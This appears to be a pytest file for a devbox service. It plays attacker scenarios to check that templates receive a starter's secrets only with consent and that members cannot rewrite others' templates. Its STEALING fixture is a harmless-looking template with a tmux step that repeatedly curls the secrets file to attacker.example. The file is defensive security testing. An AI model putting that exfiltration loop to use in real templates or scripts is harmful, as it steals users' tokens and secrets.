"""Templates and share links played as an attacker, on the in-memory VM backend: an author
whose template takes the starter's secrets, a member removed from an org who re-points its
alias, an anonymous visitor hammering a large spec's share page while another tenant works.
Elsewhere: deeply nested YAML in test_template_rules.py; another org's public template
started from its share page, and the page's consent form, in test_pages.py; build secrets in
step snapshots in tests/unit/test_build_scrub.py and on real VMs in tests/vm/test_templates.py."""

from __future__ import annotations

from typing import Any

import pytest
from support import Api, background_settled, wait_status

from devbox_service.devbox_templates import instant
from devbox_service.devbox_templates.models import TemplateStatus
from devbox_service.devbox_templates.store import TemplateStore

# An author's template that looks harmless: its tmux session (the author's code, running as
# root in the starter's devbox) posts the secrets file to the author.
STEALING = """name: helper
description: a handy dev environment
steps:
  - title: install tools
    run: echo tools
  - type: exportSecret
    title: optional GitHub integration
    name: GITHUB_TOKEN
    optional: true
  - type: tmuxSession
    title: helper daemon
    name: helper
    run: "while sleep 60; do curl -s -d @/root/.devbox/secrets.env https://attacker.example; done"
"""


async def create(api: Api, key: str, yaml: str, name: str = "helper") -> str:
    images = (await api.client.get("/api/images", headers=api.auth(api.admin_key))).json()
    body = {"name": name, "yaml": yaml, "baseSnapshotOption": images["data"][0]["id"]}
    created = await api.client.post("/api/templates", json=body, headers=api.auth(key))
    assert created.status_code == 201, created.text
    return str(created.json()["id"])


async def mark_built(api: Api, template_id: str) -> None:
    """The template as a finished build leaves it (builds need real VMs): ready, its final
    snapshot the default image's boot snapshot."""
    images = await api.services.devbox_core.backend.list_images()
    await background_settled(api)  # a write from the test's loop
    await TemplateStore(api.services.database).update(
        template_id, status=TemplateStatus.READY, final_snapshot_id=images[0].boot_snapshot_id
    )


async def save_secret(api: Api, key: str, name: str, value: str) -> None:
    saved = await api.client.put(
        f"/api/user-secrets/{name}", json={"value": value}, headers=api.auth(key)
    )
    assert saved.status_code in (200, 201), saved.text


@pytest.fixture
def injected(monkeypatch: pytest.MonkeyPatch) -> list[dict[str, str]]:
    """Every set of secrets written into an instant devbox (the guest write itself needs a
    VM); a call is recorded even when it writes none, so a test sees that it happened."""
    calls: list[dict[str, str]] = []

    async def record(guests: Any, principal: Any, devbox_id: str, env: dict[str, str]) -> None:
        calls.append(dict(env))

    monkeypatch.setattr(instant, "inject_secrets", record)
    return calls


async def start(api: Api, key: str, template_id: str, **body: Any) -> Any:
    return await api.client.post(
        f"/api/templates/{template_id}/instant-devbox", json=body, headers=api.auth(key)
    )


async def started(api: Api, key: str, template_id: str, **body: Any) -> None:
    """Start one and wait until its set-up (secrets included) has run."""
    response = await start(api, key, template_id, **body)
    assert response.status_code == 200, response.text
    await wait_status(api, key, response.json()["id"])
    await background_settled(api)


async def test_an_org_mates_template_gets_none_of_the_starters_secrets_unless_named(
    fake_api: Api, injected: list[dict[str, str]]
) -> None:
    author = await fake_api.new_user("helpful-author", org="default")
    starter = await fake_api.new_user("trusting-starter", org="default")
    template_id = await create(fake_api, author, STEALING)
    await mark_built(fake_api, template_id)
    await save_secret(fake_api, starter, "GITHUB_TOKEN", "starter-github-token")

    await started(fake_api, starter, template_id)
    assert injected, "the devbox's set-up ran"
    assert all("starter-github-token" not in env.values() for env in injected), injected

    injected.clear()
    await started(fake_api, starter, template_id, inject_secrets=["GITHUB_TOKEN"])
    assert injected == [{"GITHUB_TOKEN": "starter-github-token"}], "named: the starter consents"

    unknown = await start(fake_api, starter, template_id, inject_secrets=["AWS_SECRET"])
    assert unknown.status_code == 400 and "AWS_SECRET" in unknown.text

    # the author starting their own template keeps today's behaviour: its secrets, unasked
    injected.clear()
    await save_secret(fake_api, author, "GITHUB_TOKEN", "author-github-token")
    await started(fake_api, author, template_id)
    assert injected == [{"GITHUB_TOKEN": "author-github-token"}]


async def test_a_member_cannot_rewrite_an_org_mates_template_to_harvest_its_authors_secrets(
    fake_api: Api, injected: list[dict[str, str]]
) -> None:
    """Were a member able to change another's steps, the author's next start (unasked, as
    their own template) would hand their secrets to the member's code."""
    author = await fake_api.new_user("careful-author", org="default")
    mallory = await fake_api.new_user("mallory-member", org="default")
    harmless = "name: tools\nsteps:\n  - run: echo tools\n"
    template_id = await create(fake_api, author, harmless, name="tools")
    url = f"/api/templates/{template_id}"

    rewrite = {"yaml": STEALING}
    refused = await fake_api.client.put(url, json=rewrite, headers=fake_api.auth(mallory))
    assert refused.status_code == 403, refused.text
    assert "owner or an org admin" in refused.json()["detail"]
    renamed = await fake_api.client.put(url, json={"name": "x"}, headers=fake_api.auth(mallory))
    assert renamed.status_code == 403, renamed.text
    deleted = await fake_api.client.delete(url, headers=fake_api.auth(mallory))
    assert deleted.status_code == 403, deleted.text
    seen = await fake_api.client.get(url, headers=fake_api.auth(mallory))
    assert seen.status_code == 200 and seen.json()["yaml"] == harmless, "a member still reads it"

    # an org admin may change the steps, and becomes the author: the old author is now asked
    changed = await fake_api.client.put(
        url, json=rewrite, headers=fake_api.auth(fake_api.admin_key)
    )
    assert changed.status_code == 200, changed.text
    await mark_built(fake_api, template_id)
    await save_secret(fake_api, author, "GITHUB_TOKEN", "author-github-token")
    await started(fake_api, author, template_id)
    assert injected and all("author-github-token" not in e.values() for e in injected), injected
